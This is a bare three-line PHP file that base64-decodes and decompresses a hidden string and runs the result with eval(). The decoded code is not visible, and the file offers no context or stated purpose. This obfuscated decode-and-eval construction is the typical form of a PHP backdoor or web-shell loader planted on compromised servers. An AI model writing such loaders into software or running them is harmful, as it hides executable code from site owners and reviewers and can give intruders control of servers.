<?php
$d = gzuncompress(base64_decode('eJwrSCwuLskoKtVQiXd3DYlWT1eP1bQGAFQKBtc='));
eval($d);
